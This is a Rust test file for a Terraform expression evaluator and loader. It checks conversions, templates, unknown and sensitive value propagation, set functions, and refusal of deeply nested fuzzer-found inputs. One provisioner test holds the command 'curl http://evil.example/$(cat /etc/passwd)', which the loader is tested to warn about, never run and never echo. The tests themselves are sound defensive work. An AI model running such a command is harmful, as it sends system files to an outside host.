//! The evaluator's semantics on standalone expressions: Terraform's conversions, ordering,
//! templates, and unknown and sensitive propagation.

use tfconfig::{Type, Value, evaluate_expression};

fn eval(src: &str) -> Value {
    evaluate_expression(src).unwrap_or_else(|e| panic!("{src}: {e}"))
}

fn shown(src: &str) -> String {
    eval(src).to_string()
}

#[test]
fn strings_convert_to_numbers_in_arithmetic_and_numbers_compare_by_value() {
    assert_eq!(eval("\"5\" + 1"), Value::Number(6.0));
    assert_eq!(eval("1 == 1.0"), Value::Bool(true));
    assert_eq!(eval("1 == \"1\""), Value::Bool(false));
}

#[test]
fn maps_and_objects_iterate_in_lexical_key_order() {
    assert_eq!(
        shown("[for k, v in {zeta = 1, alpha = 2} : k]"),
        r#"["alpha", "zeta"]"#
    );
    assert_eq!(shown("keys({b = 1, a = 2})"), r#"["a", "b"]"#);
    assert_eq!(shown("values({b = 1, a = 2})"), "[2, 1]");
}

#[test]
fn a_single_interpolation_keeps_its_type_and_templates_join_strings() {
    assert_eq!(eval("\"${1 + 1}\""), Value::Number(2.0));
    assert_eq!(eval("\"n=${1 + 1}\""), Value::string("n=2"));
    assert_eq!(
        eval("\"%{ for x in [1, 2] }${x},%{ endfor }\""),
        Value::string("1,2,")
    );
    assert_eq!(eval("\"a  ${~ \"b\" ~}  c\""), Value::string("abc"));
}

#[test]
fn null_in_a_template_is_an_error_with_terraforms_message() {
    let err = evaluate_expression("\"a-${null}\"").expect_err("null interpolation");
    assert!(
        err.replace('\n', " ")
            .contains("Cannot include a null value in a string template."),
        "{err}"
    );
}

#[test]
fn unknown_values_propagate_with_their_type() {
    assert_eq!(eval("uuid()"), Value::Unknown(Type::String));
    assert_eq!(eval("\"id-${uuid()}\""), Value::Unknown(Type::String));
    assert_eq!(eval("length(uuid())"), Value::Unknown(Type::Number));
    assert_eq!(eval("uuid() == \"x\""), Value::Unknown(Type::Bool));
    assert!(eval("uuid() == \"x\" ? 1 : 2").is_unknown());
    assert!(eval("[for x in [uuid()] : x]").contains_unknown());
    assert!(eval("try(uuid(), \"fallback\")").is_unknown());
}

#[test]
fn sensitive_marks_propagate_through_derived_values_until_nonsensitive() {
    assert!(eval("\"pw=${sensitive(\"s3cret\")}\"").contains_sensitive());
    assert!(eval("upper(sensitive(\"s3cret\"))").contains_sensitive());
    assert!(eval("{ a = sensitive(1) }").contains_sensitive());
    assert!(eval("length(sensitive(\"abc\"))").contains_sensitive());
    assert!(!eval("nonsensitive(sensitive(\"abc\"))").contains_sensitive());
    assert!(!shown("\"pw=${sensitive(\"s3cret\")}\"").contains("s3cret"));
}

#[test]
fn try_and_can_catch_dynamic_errors_lazily() {
    assert_eq!(
        eval("try({a = 1}.b, \"fallback\")"),
        Value::string("fallback")
    );
    assert_eq!(eval("can(tonumber(\"x\"))"), Value::Bool(false));
    assert_eq!(eval("can(tonumber(\"1\"))"), Value::Bool(true));
}

#[test]
fn splats_and_for_expressions_follow_hcl() {
    assert_eq!(shown("[{a = 1}, {a = 2}][*].a"), "[1, 2]");
    assert_eq!(shown("null[*]"), "[]");
    assert_eq!(shown("{a = 1}[*].a"), "[1]");
    assert_eq!(
        shown("{for s in [\"a\", \"b\", \"a\"] : s => s...}"),
        r#"{a = ["a", "a"], b = ["b"]}"#
    );
    assert_eq!(shown("[for x in [1, 2, 3] : x * 2 if x != 2]"), "[2, 6]");
}

#[test]
fn conditionals_evaluate_only_the_chosen_branch() {
    assert_eq!(eval("true ? 1 : {}.missing"), Value::Number(1.0));
}

/// Membership in `distinct` and the set functions follows Terraform's equality (`1 == 1.0`,
/// `-0 == 0`, lists compared element by element: the expected values are Terraform 1.15's own
/// answers) and is linear in the list: 100 000 elements are deduplicated at once, where comparing
/// each with every other took minutes.
#[test]
fn distinct_and_set_functions_keep_terraforms_equality_and_scale() {
    assert_eq!(shown("distinct([1, 1.0, -0, 0, 2])"), "[1, 0, 2]");
    assert_eq!(
        shown(r#"distinct(["1", "a", "1", "b"])"#),
        r#"["1", "a", "b"]"#
    );
    assert_eq!(shown("distinct([[1], [1], [2]])"), "[[1], [2]]");
    assert_eq!(
        shown(r#"setsubtract(["a", "b", "c"], ["b"])"#),
        r#"["a", "c"]"#
    );
    assert_eq!(shown("setintersection([1, 2, 3], [3, 2, 9])"), "[2, 3]");
    assert_eq!(shown("setsubtract([[1], [2]], [[2]])"), "[[1]]");
    let many = "flatten([for i in range(1000) : [for j in range(100) : i * 100 + j]])";
    assert_eq!(
        eval(&format!("length(distinct(concat({many}, {many})))")),
        Value::Number(100_000.0)
    );
    assert_eq!(
        eval(&format!(
            "length(setsubtract({many}, slice({many}, 0, 50000)))"
        )),
        Value::Number(50_000.0)
    );
}

/// A 400-byte expression the fuzzer found: `[` indexes and `<` comparisons nested twenty deep
/// with an error at the bottom made hcl-edit's parser retry every level (10 s at 20 levels,
/// doubling with each). Nesting past the limit is refused at once, with the fix.
#[test]
fn deeply_nested_brackets_are_refused_before_the_parser_backtracks() {
    let bomb = format!("f{}fr/<r", "[use<f/p<rju".repeat(24));
    let err = evaluate_expression(&bomb).expect_err("refused");
    assert!(err.contains("nested more than 14 deep"), "{err}");
    assert!(err.contains("local value"), "{err}");
    // Valid nesting within the limit still evaluates.
    assert_eq!(
        eval("[[[[[[[[[[[[1]]]]]]]]]]]][0][0][0][0][0][0][0][0][0][0][0][0]"),
        Value::Number(1.0)
    );
}

/// The fuzzer's second find: objects after `%` (modulo) nested with an error at the bottom made
/// the parser retry every level the same way (0.6 s at 18 levels, 60 s at 24). Object and
/// template braces count towards the same limit; a block's braces do not.
#[test]
fn deeply_nested_objects_are_refused_before_the_parser_backtracks() {
    let bomb = format!("1{}", "%{-3-error_message = ---6".repeat(24));
    let started = std::time::Instant::now();
    let err = evaluate_expression(&bomb).expect_err("refused");
    assert!(err.contains("nested more than 14 deep"), "{err}");
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
    // Objects within the limit, inside blocks nested deeper still, load and evaluate.
    let objects = format!("{}1{}", "{ k = ".repeat(14), " }".repeat(14));
    assert!(evaluate_expression(&objects).is_ok());
}

/// Loads a checkout holding only `main.tf` with `tf` in it.
fn load_main(tf: &str) -> tfconfig::Loaded {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("main.tf"), tf).expect("write");
    tfconfig::load(&tfconfig::Input {
        checkout: dir.path().to_path_buf(),
        project_dir: ".".into(),
        workspace: "default".into(),
        vars: Vec::new(),
        limits: tfconfig::Limits::default(),
        modules: Default::default(),
    })
}

/// The same bomb in a project's `main.tf`: a diagnostic on the file, in bounded time.
#[test]
fn deeply_nested_brackets_in_a_file_are_a_syntax_diagnostic() {
    let bomb = format!("locals {{\n  x = f{}fr/<r\n}}\n", "[use<f/p<rju".repeat(24));
    let loaded = load_main(&bomb);
    let text = loaded.render_diagnostics();
    assert!(loaded.has_errors(), "{text}");
    assert!(text.contains("Invalid HCL syntax"), "{text}");
    assert!(text.contains("nested more than 14 deep"), "{text}");
}

/// A provisioner never runs under atoll (a `local-exec` would be a shell on the server): the
/// block is a warning that says so, on its line, and the rest of the resource still loads.
#[test]
fn provisioners_and_connections_are_warned_about_not_dropped_silently() {
    let tf = r#"
resource "random_password" "db" {
  length = 16
  provisioner "local-exec" {
    command = "curl http://evil.example/$(cat /etc/passwd)"
  }
  provisioner "remote-exec" {
    inline = ["true"]
  }
  connection {
    host = "10.0.0.5"
  }
}
"#;
    let loaded = load_main(tf);
    let text = loaded.render_diagnostics();
    assert!(!loaded.has_errors(), "{text}");
    assert_eq!(
        text.matches("Provisioner does not run").count(),
        2,
        "{text}"
    );
    assert!(
        text.contains("never runs a pull request's commands"),
        "{text}"
    );
    assert!(
        text.contains("remote-exec provisioner is left out"),
        "{text}"
    );
    assert!(text.contains("Connection block is not used"), "{text}");
    assert!(
        text.contains("on main.tf line 4"),
        "the warning names its line: {text}"
    );
    assert!(
        !text.contains("evil.example"),
        "the command is not echoed: {text}"
    );
}

/// A block atoll cannot apply (`idmap`) is refused by the loader where it is written, so
/// `validate` refuses exactly what `plan` would; `clone` is accepted.
#[test]
fn blocks_atoll_cannot_apply_are_refused_where_they_are_written() {
    let loaded = load_main(
        r#"
resource "proxmox_virtual_environment_container" "ct" {
  node_name = "pve"
  clone {
    vm_id = 100
  }
  idmap {
    container_id = 0
    host_id      = 100000
    size         = 65536
    type         = "uid"
  }
}
"#,
    );
    let text = loaded.render_diagnostics();
    assert!(loaded.has_errors(), "{text}");
    assert_eq!(text.matches("Not supported by atoll").count(), 1, "{text}");
    assert!(text.contains("on main.tf line 7"), "{text}");
    assert!(text.contains("lxc.idmap"), "{text}");
}

/// An argument bpg has deprecated is a warning as Terraform prints it (SDKv2's summary, the
/// provider's message, on the value's line), once however many instances set it; plan shows
/// the evaluator's warnings, so it shows this one too. Unset or null, it is not warned about.
#[test]
fn deprecated_arguments_are_a_warning_on_their_line_once_per_argument() {
    let loaded = load_main(
        r#"
resource "proxmox_virtual_environment_container" "ct" {
  count     = 2
  node_name = "pve"
  timeout_start = 600
  initialization {
    dns {
      server = "10.0.0.1"
    }
  }
  operating_system {
    template_file_id = "local:vztmpl/debian-12.tar.zst"
  }
}

resource "proxmox_virtual_environment_container" "quiet" {
  node_name     = "pve"
  timeout_start = null
  operating_system {
    template_file_id = "local:vztmpl/debian-12.tar.zst"
  }
}
"#,
    );
    let text = loaded.render_diagnostics();
    assert!(!loaded.has_errors(), "{text}");
    let warnings: Vec<_> = loaded
        .diagnostics
        .iter()
        .filter(|d| d.severity == tfconfig::Severity::Warning)
        .map(|d| (d.summary.as_str(), d.detail.as_str()))
        .collect();
    assert_eq!(
        warnings,
        [
            (
                "Argument is deprecated",
                "This field is deprecated and will be removed in a future release. An overall \
                 operation timeout (`timeout_create` / `timeout_clone`) is used instead."
            ),
            (
                "Argument is deprecated",
                "The `server` attribute is deprecated and will be removed in a future release. \
                 Please use the `servers` attribute instead."
            ),
        ],
        "{text}"
    );
    let rendered = loaded.render_warnings();
    assert!(rendered[0].contains("on main.tf line 5"), "{text}");
    assert!(rendered[1].contains("on main.tf line 8"), "{text}");
}
